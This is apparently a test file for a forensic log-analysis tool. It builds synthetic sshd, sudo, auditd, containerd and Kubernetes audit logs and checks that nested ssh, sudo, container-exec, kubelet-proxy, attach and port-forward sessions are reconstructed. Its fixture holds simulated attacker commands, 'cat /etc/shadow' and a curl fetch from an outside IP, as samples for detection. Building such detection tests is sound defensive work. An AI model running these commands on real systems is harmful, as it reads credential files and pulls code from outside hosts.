// Somebody logs in to a node by ssh, becomes root with sudo and enters a container past the API; others come by the API server's proxy to the
// kubelet, as somebody else, and by attach; a kubelet probe runs beside. From log lines,
// in the shapes that sshd, sudo, containerd and auditd write, to sessions one inside the other.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { buildEntities } from '../../analytics/entities/entities.ts';
import { connect } from '../../analytics/store/connect.ts';
import type { Store } from '../../analytics/store/store.ts';
import { importPaths } from '../../ingest/import.ts';

const START = Date.parse('2026-05-01T10:00:00Z');
const CONTAINER = '0abac51f'.padEnd(64, '7');
const [TYPED, PROBE, PROXIED] = ['ee01'.padEnd(64, '0'), 'ee02'.padEnd(64, '0'), 'ee03'.padEnd(64, '0')] as const;
const words = (exec: string) => [
  'runc',
  '--root',
  '/run/containerd/runc/k8s.io',
  'exec',
  '--process',
  '/tmp/p',
  '--detach',
  '--pid-file',
  `/run/c/${exec}.pid`,
  CONTAINER,
];

let serial = 100;
const header = (ms: number) => `msg=audit(${((START + ms) / 1000).toFixed(3)}:${++serial})`;
const quote = (text: string) =>
  /^[\w./:=-]+$/.test(text) ? `"${text}"` : Buffer.from(text).toString('hex').toUpperCase();
const user = (ms: number, type: string, pid: number, ses: number, told: string) =>
  `type=${type} ${header(ms)}: pid=${pid} uid=0 auid=${ses === 7 ? 1001 : 4294967295} ses=${ses} msg='${told} res=success'`;
function execve(ms: number, pid: number, ppid: number, argv: string[], ses = 4294967295, comm = argv[0]): string {
  const msg = header(ms);
  return [
    `type=SYSCALL ${msg}: arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=${ppid} pid=${pid} auid=${ses === 7 ? 1001 : 4294967295} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=${ses} comm="${comm}" exe="/usr/bin/${comm}" key=(null)`,
    `type=EXECVE ${msg}: argc=${argv.length} ${argv.map((w, i) => `a${i}=${quote(w)}`).join(' ')}`,
    `type=PROCTITLE ${msg}: proctitle=${quote(argv.join(' '))}`,
  ].join('\n');
}
const from = 'hostname=198.51.100.20 addr=198.51.100.20';
const audit = [
  `type=LOGIN ${header(0)}: pid=2101 uid=0 old-auid=4294967295 auid=1001 tty=(none) old-ses=4294967295 ses=7 res=1`,
  user(
    4,
    'USER_START',
    2101,
    7,
    `op=PAM:session_open grantors=pam_unix acct="ops" exe="/usr/sbin/sshd" ${from} terminal=ssh`,
  ),
  user(8, 'USER_LOGIN', 2101, 7, `op=login id=1001 exe="/usr/sbin/sshd" ${from} terminal=/dev/pts/0`),
  execve(20, 2110, 2109, ['bash'], 7),
  execve(5_000, 2120, 2110, ['sudo', 'crictl', 'exec', '-it', '0abac51f', 'sh'], 7),
  user(
    5_010,
    'USER_CMD',
    2120,
    7,
    `cwd="/home/ops" cmd=${quote('crictl exec -it 0abac51f sh')} exe="/usr/bin/sudo" terminal=pts/0`,
  ),
  user(
    5_012,
    'USER_START',
    2120,
    7,
    `op=PAM:session_open grantors=pam_unix acct="root" exe="/usr/bin/sudo" hostname=? addr=? terminal=/dev/pts/0`,
  ),
  execve(5_020, 2121, 2120, ['crictl', 'exec', '-it', '0abac51f', 'sh'], 7),
  execve(5_060, 2200, 900, words(TYPED)),
  execve(5_084, 2210, 900, ['sh']),
  execve(7_000, 2211, 2210, ['cat', '/etc/shadow']),
  execve(8_000, 2212, 2210, ['curl', 'http://203.0.113.66/x']),
  execve(8_100, 2213, 2212, ['gzip']),
  execve(-59_910, 950, 900, ['httpd', '-f']),
  execve(12_060, 2400, 900, words(PROXIED)),
  execve(12_084, 2410, 900, ['id']),
  execve(6_060, 2300, 900, words(PROBE)),
  execve(6_084, 2310, 900, ['wget', '-q', 'http://127.0.0.1']),
  user(
    9_500,
    'USER_END',
    2120,
    7,
    'op=PAM:session_close grantors=pam_unix acct="root" exe="/usr/bin/sudo" hostname=? addr=? terminal=/dev/pts/0',
  ),
  user(
    9_900,
    'USER_END',
    2101,
    7,
    `op=PAM:session_close grantors=pam_unix acct="ops" exe="/usr/sbin/sshd" ${from} terminal=ssh`,
  ),
];
const event = (ms: number, topic: string, body: object) =>
  `${new Date(START + ms).toISOString().replace('T', ' ').replace('Z', '')} +0000 UTC k8s.io ${topic} ${JSON.stringify({ container_id: CONTAINER, ...body })}`;
const events = [
  event(-60_000, '/containers/create', {
    id: CONTAINER,
    image: 'example/app:1',
    runtime: { name: 'io.containerd.runc.v2' },
  }),
  event(-59_900, '/tasks/start', { pid: 950 }),
  event(5_050, '/tasks/exec-added', { exec_id: TYPED }),
  event(5_090, '/tasks/exec-started', { exec_id: TYPED, pid: 2210 }),
  event(6_050, '/tasks/exec-added', { exec_id: PROBE }),
  event(6_090, '/tasks/exec-started', { exec_id: PROBE, pid: 2310 }),
  event(6_190, '/tasks/exit', { id: PROBE, pid: 2310, exit_status: 0 }),
  event(12_050, '/tasks/exec-added', { exec_id: PROXIED }),
  event(12_090, '/tasks/exec-started', { exec_id: PROXIED, pid: 2410 }),
  event(9_400, '/tasks/exit', { id: TYPED, pid: 2210, exit_status: 130 }),
];

const time = (ms: number) => new Date(START + ms).toISOString().replace('Z', '000Z');
const request = (id: string, ms: number, stage: string, ref: object, uri: string, more: object = {}) =>
  JSON.stringify({
    ...{
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      level: 'Metadata',
      auditID: id,
      stage,
      requestURI: uri,
      verb: 'create',
    },
    ...{
      user: { username: 'mallory', groups: ['system:authenticated'] },
      sourceIPs: ['203.0.113.9'],
      userAgent: 'curl/8',
    },
    ...{
      objectRef: ref,
      responseStatus: { metadata: {}, code: 101 },
      requestReceivedTimestamp: time(ms),
      stageTimestamp: time(ms + 1),
    },
    ...more,
  });
const proxied = '/api/v1/nodes/n/proxy/exec/shop/web/app?command=id&output=1';
const ofPod = (subresource: string) => ({ resource: 'pods', namespace: 'shop', name: 'web', subresource });
const api = [
  request('proxied', 12_000, 'ResponseStarted', { resource: 'nodes', name: 'n', subresource: 'proxy' }, proxied, {
    impersonatedUser: { username: 'admin' },
  }),
  request(
    'attached',
    14_000,
    'ResponseStarted',
    ofPod('attach'),
    '/api/v1/namespaces/shop/pods/web/attach?container=app&stdin=true',
    { verb: 'get' },
  ),
  request(
    'forward',
    15_000,
    'ResponseStarted',
    ofPod('portforward'),
    '/api/v1/namespaces/shop/pods/web/portforward?ports=8080',
  ),
  request(
    'refused',
    16_000,
    'ResponseComplete',
    ofPod('exec'),
    '/api/v1/namespaces/shop/pods/web/exec?command=id&container=app',
    {
      responseStatus: { metadata: {}, code: 403 },
    },
  ),
];
const labels = {
  'io.kubernetes.pod.name': 'web',
  'io.kubernetes.pod.namespace': 'shop',
  'io.kubernetes.pod.uid': 'u-1',
};
const described = JSON.stringify({
  ...{ observedAt: time(-59_990), namespace: 'k8s.io', id: CONTAINER },
  info: {
    ...{ ID: CONTAINER, Image: 'example/app:1', CreatedAt: time(-60_000) },
    Labels: { ...labels, 'io.kubernetes.container.name': 'app', 'io.cri-containerd.kind': 'container' },
  },
});

describe.each([true, false])('on a node where the runtime tells of execs: %s', (tells) => {
  let store: Store;
  const directory = mkdtempSync(join(tmpdir(), 'vestige-node-sessions-'));
  beforeAll(async () => {
    writeFileSync(join(directory, 'audit.log'), `${audit.join('\n')}\n`);
    const told = tells ? events : events.filter((e) => !/exec-|"id":"ee/.test(e));
    writeFileSync(join(directory, 'containerd-events.log'), `${told.join('\n')}\n`);
    writeFileSync(join(directory, 'k8s-audit.log'), `${api.join('\n')}\n`);
    writeFileSync(join(directory, 'containers.jsonl'), `${described}\n`);
    store = await connect(`embedded:${join(directory, 'store')}`, 'test');
    const all = { store, now: () => new Date(), stop: new AbortController().signal, onProgress: () => {} };
    await importPaths(
      ['audit.log', 'containerd-events.log', 'k8s-audit.log', 'containers.jsonl'].map((name) => join(directory, name)),
      { cluster: 'c', node: 'n' },
      all,
    );
    await buildEntities(store, 1);
  });
  afterAll(async () => {
    await store.close();
    rmSync(directory, { recursive: true, force: true });
  });

  test('ssh, sudo and the exec it asked for are sessions inside one another; the probe is none', async () => {
    const sessions = await store.rows("SELECT * FROM sessions FINAL WHERE principal = '' ORDER BY requested_at, kind");
    expect(sessions.map((s) => s['kind'])).toEqual(['login-ssh', 'sudo', 'runtime-exec']);
    const [login, sudo, exec] = sessions;
    expect(login).toMatchObject({
      account: 'ops',
      auid: 1001,
      source_ip: '198.51.100.20',
      terminal: '/dev/pts/0',
      ended_by: 'logout',
      parent_session: '',
    });
    expect(sudo).toMatchObject({
      account: 'root',
      command: ['crictl exec -it 0abac51f sh'],
      parent_session: login?.['session_id'],
      ended_by: 'logout',
    });
    expect(exec).toMatchObject({
      container_id: CONTAINER,
      command: ['sh'],
      pid: 2210,
      parent_session: sudo?.['session_id'],
      method: 'client',
      confidence: expect.closeTo(0.95),
    });
    expect(exec?.['ended_by']).toBe(tells ? 'exit' : '');
    expect(exec?.['exit_status']).toBe(tells ? 130 : -1);
  });

  test('through the proxy of a kubelet, by attach and port-forward are sessions; a refused exec reached nothing', async () => {
    const rows = await store.rows("SELECT * FROM sessions FINAL WHERE principal = 'mallory' ORDER BY requested_at");
    const [exec, attach, forward, refused] = rows;
    expect(rows.map((s) => s['kind'])).toEqual(['exec', 'attach', 'portforward', 'exec']);
    expect(exec).toMatchObject({
      impersonated: 'admin',
      container_id: CONTAINER,
      command: ['id'],
      exec_id: PROXIED,
      pid: 2410,
      pod_uid: 'u-1',
    });
    expect(exec?.['method']).toBe(tells ? 'command' : 'command-by-audit');
    expect(attach).toMatchObject({ container_id: CONTAINER, pid: 950, method: 'container', ended_by: '' });
    // everything in the container comes of its first process but what came in later
    expect(Number(attach?.['tree_processes'])).toBe(1);
    expect(forward).toMatchObject({ ports: ['8080'], process_key: '', container_id: CONTAINER });
    expect(refused).toMatchObject({ ended_by: 'refused', exec_id: '', process_key: '' });
  });

  test('every command typed inside is told by one query, and who was behind it', async () => {
    const inside = await store.rows(
      `SELECT p.argv AS argv, i.depth AS depth FROM session_processes AS i FINAL
       INNER JOIN processes AS p FINAL ON p.cluster = i.cluster AND p.node = i.node AND p.process_key = i.process_key
       WHERE i.session_id LIKE 'exec:%' ORDER BY p.first_seen`,
    );
    expect(inside.map((r) => [(r['argv'] as string[]).join(' '), r['depth']])).toEqual([
      ['sh', 0],
      ['cat /etc/shadow', 1],
      ['curl http://203.0.113.66/x', 1],
      ['gzip', 2],
    ]);
    const behind = await store.rows(
      `SELECT s.kind AS kind FROM session_processes AS i FINAL INNER JOIN sessions AS s FINAL ON s.session_id = i.session_id
       INNER JOIN processes AS p FINAL ON p.process_key = i.process_key AND p.node = i.node WHERE p.comm = 'crictl' ORDER BY i.depth, s.kind`,
    );
    expect(new Set(behind.map((r) => r['kind']))).toEqual(new Set(['sudo', 'login-ssh']));
  });
});
